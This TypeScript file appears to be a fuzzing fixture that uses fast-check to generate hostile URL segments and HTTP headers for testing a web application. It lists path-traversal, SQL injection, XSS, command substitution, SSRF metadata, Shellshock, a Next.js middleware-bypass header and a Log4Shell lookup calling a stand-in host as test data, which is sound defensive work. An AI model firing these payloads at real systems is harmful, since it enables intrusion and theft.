import fc from 'fast-check';

/** What people, programs and attackers have put into addresses, percent-encoded or not. */
const KNOWN = [
  '',
  '0',
  '-1',
  '1e309',
  'NaN',
  '9'.repeat(30),
  '2026-02-30',
  '0000-00-00',
  '-271821-04-20',
  '275760-09-13',
  '%00',
  '%',
  '%zz',
  '%ff%fe',
  '%ed%a0%80',
  '%0d%0aSet-Cookie:%20a=1',
  '%0d%0a%0d%0a<script>alert(1)</script>',
  '..%2f..%2fetc%2fpasswd',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '__proto__',
  'constructor',
  'prototype[isAdmin]',
  'hasOwnProperty',
  "'%20or%201=1--",
  "');%20drop%20table%20pledge;--",
  '$(id)',
  '{{7*7}}',
  '%24%7B7*7%7D',
  '<script>alert(1)</script>',
  '%3Csvg/onload=alert(1)%3E',
  'javascript:alert(1)',
  '%F0%9F%92%A9',
  '%E2%80%AE%D0%BC',
  '%CC%81'.repeat(50),
  'a'.repeat(3_000),
  '%20',
  '+',
  '&&&===',
  '[]',
  '[$ne]=1',
  'null',
  'undefined',
  'true',
  '.',
  '..',
  '%2e%2e',
  '%252e%252e%252f',
  ';/..;/',
  '@example.org',
  '/example.org',
  'http://169.254.169.254/latest/meta-data/',
  'https://example.org/en/fair-kazakhstan-2022',
] as const;

/** A part of an address, as it stands there. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...KNOWN) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map(escaped) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }).map(escaped) },
  { weight: 1, arbitrary: fc.integer().map(String) },
);

/** Lone surrogates cannot be escaped: the replacement sign stands for them. */
function escaped(text: string): string {
  return encodeURIComponent(Buffer.from(text, 'utf8').toString('utf8'));
}

/** Headers as they come from browsers, programs, proxies, and from those who try things. */
export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc
  .array(
    fc.constantFrom<[string, string]>(
      ['range', 'bytes=0-1'],
      ['range', 'bytes=-0,0-,99999999999999999999-'],
      ['accept-encoding', 'br;q=2, *;q=abc, gzip;;;'],
      ['accept-encoding', 'identity;q=0, *;q=0'],
      ['accept-encoding', 'gzip,'.repeat(500)],
      ['if-none-match', '*'],
      ['if-none-match', 'W/"'],
      ['if-none-match', `"${'x'.repeat(2_000)}"`],
      ['if-modified-since', 'Thu, 99 Foo 10000 99:99:99 GMT'],
      ['if-match', '"nothing"'],
      ['if-unmodified-since', 'yesterday'],
      ['accept-language', 'x-'.repeat(900)],
      ['accept-language', 'en;q=NaN,__proto__,kk-'],
      ['accept', 'application/x-nothing;q=-1'],
      ['cookie', 'next-auth.session-token=eyJhbGciOiJub25lIn0.e30.; a=%ff; =; __proto__=1'],
      ['authorization', 'Bearer null'],
      ['x-forwarded-for', '"><script>, unknown, ::ffff:127.0.0.1'],
      ['x-forwarded-host', 'evil.example.org'],
      ['x-forwarded-proto', 'gopher'],
      ['x-request-id', '%{jndi:ldap://evil.example.org/a}'],
      ['x-http-method-override', 'DELETE'],
      ['x-middleware-subrequest', 'middleware:middleware:middleware:middleware:middleware'],
      ['x-original-url', '/en/editor'],
      ['rsc', '1'],
      ['next-action', 'a'.repeat(40)],
      ['next-router-state-tree', '%5B%22%22%5D'],
      ['next-router-prefetch', '1'],
      ['x-nextjs-data', '1'],
      ['x-invoke-path', '/en/editor'],
      ['origin', 'null'],
      ['referer', 'https://evil.example.org/?token=1'],
      ['host', 'evil.example.org'],
      ['expect', 'a-miracle'],
      ['te', 'trailers, deflate;q=0.5'],
      ['user-agent', '() { :;}; echo vulnerable'],
      ['sec-fetch-site', 'cross-site'],
    ),
    { maxLength: 3 },
  )
  .map((pairs) => Object.fromEntries(pairs));

export const method: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: fc.constant('GET') },
  { weight: 2, arbitrary: fc.constant('HEAD') },
  {
    weight: 2,
    arbitrary: fc.constantFrom('OPTIONS', 'POST', 'PUT', 'PATCH', 'DELETE', 'TRACE', 'PROPFIND', 'PURGE'),
  },
);
